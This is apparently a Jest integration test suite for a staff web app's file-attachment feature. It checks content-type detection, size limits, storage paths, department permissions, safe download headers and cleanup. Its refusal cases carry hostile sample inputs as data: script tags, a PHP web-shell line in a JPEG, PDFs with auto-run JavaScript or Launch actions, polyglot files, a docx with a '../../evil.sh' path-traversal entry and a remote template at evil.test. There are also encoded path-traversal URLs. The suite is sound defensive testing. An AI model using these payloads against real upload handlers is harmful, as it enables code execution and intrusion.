import { createHash } from 'node:crypto';
import { mkdir, readdir, utimes, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { AttachmentCleaner } from '../../src/attachments/attachment-cleaner.service.js';
import type { UploadView } from '../../src/attachments/attachment.view.js';
import { AppConfig } from '../../src/config/app-config.js';
import { auditRows, tamper } from '../support/audit-rows.js';
import { sampleClause, saveClause } from '../support/sample-clause.js';
import { docxFile, jpegFile, pdfFile, pngFile } from '../support/sample-files.js';
import { createStaff, openStaffSession } from '../support/staff.js';
import { startTestApp, type TestApp } from '../support/start-test-app.js';

const LIMIT = 256 * 1024;
const HTML = '<html><script>alert(1)</script></html>';

describe('attachments', () => {
  let server: TestApp;
  let tokens: { registrar: string; elsewhere: string; auditor: string };

  beforeAll(async () => {
    server = await startTestApp({ attachmentMaxBytes: LIMIT });
    const make = async (name: string, role: string, department?: string): Promise<string> => {
      await createStaff(server.app, name, role, ...(department ? [department] : []));
      return openStaffSession(server.app, name);
    };
    tokens = {
      registrar: await make('registrar', 'registrar', 'hrss'),
      elsewhere: await make('elsewhere', 'registrar', 'civil'),
      auditor: await make('auditor', 'auditor'),
    };
    await saveClause(server, sampleClause({ code: 'with-files', ordinal: 480 }));
  });
  afterAll(() => server.close());

  const path = (code = 'with-files'): string => `${server.url}/api/v1/staff/clauses/${code}/attachments`;
  function upload(
    content: Buffer | string,
    name = '申请表.pdf',
    { token = tokens.registrar, code = 'with-files' } = {},
  ): Promise<Response> {
    const form = new FormData();
    form.append('file', new Blob([new Uint8Array(Buffer.from(content))], { type: 'text/html' }), name);
    return fetch(path(code), { method: 'POST', body: form, headers: { authorization: `Bearer ${token}` } });
  }
  async function uploaded(content: Buffer, name?: string): Promise<UploadView> {
    const answer = await upload(content, name);
    if (answer.status !== 201) throw new Error(`${answer.status} ${await answer.text()}`);
    return (await answer.json()) as UploadView;
  }
  const asStaff = (method: string, address: string, token = tokens.registrar): Promise<Response> =>
    fetch(address, { method, headers: { authorization: `Bearer ${token}` } });
  const publish = (attachments: unknown[], changes = {}): Promise<void> =>
    saveClause(server, sampleClause({ code: 'with-files', ordinal: 480, attachments, ...changes }));
  const reference = ({ id, name, type, size, sha256 }: UploadView) => ({ id, name, type, size, sha256 });

  it('take PDF, Word and images, told by content', async () => {
    for (const [content, given, name, type] of [
      [pdfFile(), '说明.html', '说明.pdf', 'pdf'],
      [docxFile(), '表.exe', '表.docx', 'docx'],
      [pngFile(), 'a.png', 'a.png', 'png'],
      [jpegFile(), 'b.jpeg', 'b.jpg', 'jpg'],
    ] as const) {
      const view = await uploaded(content, given);
      expect(view).toMatchObject({
        name,
        type,
        size: content.length,
        sha256: createHash('sha256').update(content).digest('hex'),
      });
    }
    expect((await asStaff('GET', path())).status).toBe(200);
  });

  it.each<[string, Buffer | string]>([
    ['a page', HTML],
    ['a drawing with script', `<svg xmlns="http://www.w3.org/2000/svg">${HTML}</svg>`],
    ['a program', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(200)])],
    ['a ZIP', docxFile([{ name: '[Content_Types].xml', data: '<Types/>' }])],
    ['an empty file', ''],
    ['a page that pretends to be a PDF', `GIF89a%PDF-1.4 ${HTML} %%EOF`],
    ['half a PDF', pdfFile().subarray(0, 60)],
    ['a PDF with script', pdfFile('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>')],
    ['a PDF with hidden script', pdfFile('/OpenAction << /S /J#61vaScript >>')],
    ['a PDF with a program to start', pdfFile('/AA << /O << /S /Launch >> >>')],
    ['a PDF that is a ZIP, too', Buffer.concat([pdfFile(), docxFile(), Buffer.from('%%EOF')])],
    ['a PNG with a page behind it', Buffer.concat([pngFile(), Buffer.from(HTML)])],
    ['a PNG with a page inside', pngFile(HTML)],
    ['a PNG that is a ZIP, too', Buffer.concat([pngFile(), docxFile()])],
    ['a JPEG with PHP inside', jpegFile('<?php system($_GET[0]); ?>')],
    ['a JPEG with a page behind it', Buffer.concat([jpegFile(), Buffer.from(HTML)])],
    ['a Word document with macros', docxFile([{ name: 'word/vbaProject.bin', data: 'x' }])],
    ['a Word document with a way out', docxFile([{ name: '../../evil.sh', data: 'x' }])],
    ['a Word document with a program', docxFile([{ name: 'word/embeddings/run.exe', data: 'x' }])],
    [
      'a Word document with a template from elsewhere',
      docxFile([
        {
          name: 'word/_rels/settings.xml.rels',
          data: '<Relationship Type="http://x/attachedTemplate" Target="http://evil.test/t.dotm" TargetMode="External"/>',
        },
      ]),
    ],
    ['a Word document behind something', Buffer.concat([Buffer.from(HTML), docxFile()])],
    ['a Word document with something behind', Buffer.concat([docxFile(), Buffer.from(HTML)])],
  ])('refuse %s', async (_what, content) => {
    const answer = await upload(content);
    expect([answer.status, ((await answer.json()) as { code: string }).code]).toEqual([
      400,
      'ATTACHMENT.REFUSED',
    ]);
  });

  it('have a limit, and leave nothing behind when refused', async () => {
    const big = await upload(Buffer.concat([pdfFile(), Buffer.alloc(LIMIT), Buffer.from('%%EOF')]));
    expect([big.status, ((await big.json()) as { code: string }).code]).toEqual([
      413,
      'ATTACHMENT.TOO_LARGE',
    ]);
    const { dataDir } = server.app.get(AppConfig);
    expect(await readdir(join(dataDir, 'attachments/arriving'))).toEqual([]);
  });

  it('lie under names that say nothing, outside of what is served', async () => {
    const { id } = await uploaded(pdfFile(), '../../../web/evil.pdf');
    const { dataDir } = server.app.get(AppConfig);
    const files = await readdir(join(dataDir, 'attachments'), { recursive: true });
    expect(files.filter((file) => file.includes('evil') || file.includes(id))).toEqual([]);
    for (const address of [
      '/attachments/',
      `/assets/..%2f..%2fattachments`,
      `/api/v1/clauses/with-files/attachments/..%2f..%2f${id}`,
    ])
      expect((await server.get(address)).status).toBeGreaterThanOrEqual(400);
  });

  it('are for the people of the department', async () => {
    const file = await uploaded(pdfFile());
    expect((await upload(pdfFile(), 'a.pdf', { token: tokens.elsewhere })).status).toBe(403);
    expect((await upload(pdfFile(), 'a.pdf', { token: tokens.auditor })).status).toBe(403);
    const address = `${path()}/${file.id}`;
    expect((await asStaff('GET', address, tokens.elsewhere)).status).toBe(403);
    expect((await asStaff('DELETE', address, tokens.elsewhere)).status).toBe(403);
    expect((await asStaff('GET', address, tokens.auditor)).status).toBe(200);
    expect((await asStaff('GET', `${path('hrss-p01-c1')}/${file.id}`)).status).toBe(404);
    expect((await upload(pdfFile(), 'a.pdf', { code: 'nothing-here' })).status).toBe(404);
  });

  it('are public only as far as a public version names them, and are never shown as a page', async () => {
    const content = pngFile('first');
    const file = await uploaded(content, '附图.png');
    const address = `/api/v1/clauses/with-files/attachments/${file.id}`;
    expect((await server.get(address)).status).toBe(404);
    await publish([reference(file)], { title: '带附件的条款' });
    const answer = await server.get(address);
    expect(Buffer.from(await answer.arrayBuffer()).equals(content)).toBe(true);
    expect(Object.fromEntries(answer.headers)).toMatchObject({
      'content-type': 'image/png',
      'content-length': String(content.length),
      'content-disposition': `attachment; filename="attachment.png"; filename*=UTF-8''%E9%99%84%E5%9B%BE.png`,
      'x-content-type-options': 'nosniff',
      'content-security-policy': "sandbox; default-src 'none'; frame-ancestors 'none'",
    });
    const page = await (await server.get('/clauses/with-files')).text();
    expect(page).toContain('附图.png');
    expect(page).toContain(address);
    // As a file does that has no such column.
    await saveClause(server, sampleClause({ code: 'with-files', ordinal: 480, title: '改过标题的条款' }));
    expect((await server.get(address)).status).toBe(200);
    await publish([], { title: '不带附件的条款' });
    expect((await server.get(address)).status).toBe(404);
    expect((await server.get(`${address}?version=2`)).status).toBe(200);
    expect((await asStaff('DELETE', `${path()}/${file.id}`)).status).toBe(409);
  });

  it('are never another file than the one that was decided on', async () => {
    const file = await uploaded(pngFile('decided'));
    await publish([{ ...reference(file), sha256: '0'.repeat(64) }], { title: '内容不符的附件' });
    expect((await server.get(`/api/v1/clauses/with-files/attachments/${file.id}`)).status).toBe(404);
  });

  it('are on record, and go when nobody needs them', async () => {
    const file = await uploaded(pngFile('unneeded'));
    expect((await asStaff('DELETE', `${path()}/${file.id}`)).status).toBe(204);
    const actions = (await auditRows(server.app)).slice(-2).map(({ action }) => action);
    expect(actions).toEqual(['attachment.uploaded', 'attachment.removed']);
    const old = await uploaded(pngFile('old'));
    await tamper(
      server.app,
      `UPDATE attachment SET uploaded_at = '2020-01-01 00:00:00.000' WHERE id = '${old.id}'`,
    );
    const { dataDir } = server.app.get(AppConfig);
    const lost = join(dataDir, 'attachments/ab', `ab${'0'.repeat(38)}`);
    await mkdir(join(dataDir, 'attachments/ab'), { recursive: true });
    await writeFile(lost, 'nobody knows this file');
    await utimes(lost, new Date(0), new Date(0));
    expect(await server.app.get(AttachmentCleaner, { strict: false }).sweep()).toEqual({ rows: 1, files: 1 });
    expect((await asStaff('GET', `${path()}/${old.id}`)).status).toBe(404);
  });
});
